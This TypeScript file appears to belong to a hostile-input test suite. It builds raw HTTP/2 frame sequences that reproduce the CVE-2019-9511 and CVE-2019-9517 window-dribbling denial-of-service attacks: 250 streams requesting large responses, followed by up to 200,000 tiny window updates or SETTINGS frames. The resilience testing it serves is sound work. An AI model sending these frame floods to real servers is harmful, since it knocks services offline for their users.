/** HTTP/2 windows opened in small steps over many waiting responses (CVE-2019-9511, CVE-2019-9517). */
import type { HostileCase } from '../contract.ts';
import { ending, flags, frame, frameTypes, get, many, number32, setting, settingIds } from '../frames.ts';
import { frames } from './frame-case.ts';

const streams = 250;
const wholeHead = flags.endStream | flags.endHeaders;
/** Request with the largest response of an empty server. */
const large = get('/openapi/v2');
const small = get('/version');
const byAdministrator = { anonymous: false };

const requests = (block: Buffer): Buffer => many(streams, (i) => frame(frameTypes.headers, wholeHead, 2 * i + 1, block));
const opened = (stream: number, bytes: number): Buffer => frame(frameTypes.windowUpdate, 0, stream, number32(bytes));
const initial = (bytes: number): Buffer => frame(frameTypes.settings, 0, 0, setting(settingIds.initialWindowSize, bytes));
/** Opens the connection window and closes those of the streams. */
const shutStreams = Buffer.concat([initial(0), opened(0, 0x7000_0000)]);
const streamOf = (index: number): number => 2 * (index % streams) + 1;

export const windowCases: readonly HostileCase[] = [
	frames(
		'250 answers, for which the window of the connection opens a byte at a time',
		() => Buffer.concat([requests(large), many(200_000, () => opened(0, 1)), ending]),
		byAdministrator,
	),
	frames('the same for small answers, without credentials', () =>
		Buffer.concat([initial(0), requests(small), many(100, () => initial(65_535)), many(200_000, () => opened(0, 1)), ending]),
	),
	frames(
		'250 answers, each on a window that opens a byte at a time',
		() => Buffer.concat([shutStreams, requests(large), many(200_000, (i) => opened(streamOf(i), 1)), ending]),
		byAdministrator,
	),
	frames(
		'250 answers, each on a window that opens a kilobyte at a time',
		() => Buffer.concat([shutStreams, requests(large), many(100_000, (i) => opened(streamOf(i), 1_024)), ending]),
		byAdministrator,
	),
	frames(
		'250 answers, whose windows each of 50,000 SETTINGS opens by a byte',
		() => Buffer.concat([shutStreams, requests(large), many(50_000, (i) => initial(i + 1)), ending]),
		byAdministrator,
	),
	frames('250 small answers, whose windows 50,000 SETTINGS shut and open, without credentials', () =>
		Buffer.concat([shutStreams, requests(small), many(50_000, (i) => initial(i % 2)), ending]),
	),
	frames('200,000 updates of the window of a stream that is over', () =>
		Buffer.concat([frame(frameTypes.headers, wholeHead, 1, small), many(200_000, () => opened(1, 1)), ending]),
	),
];
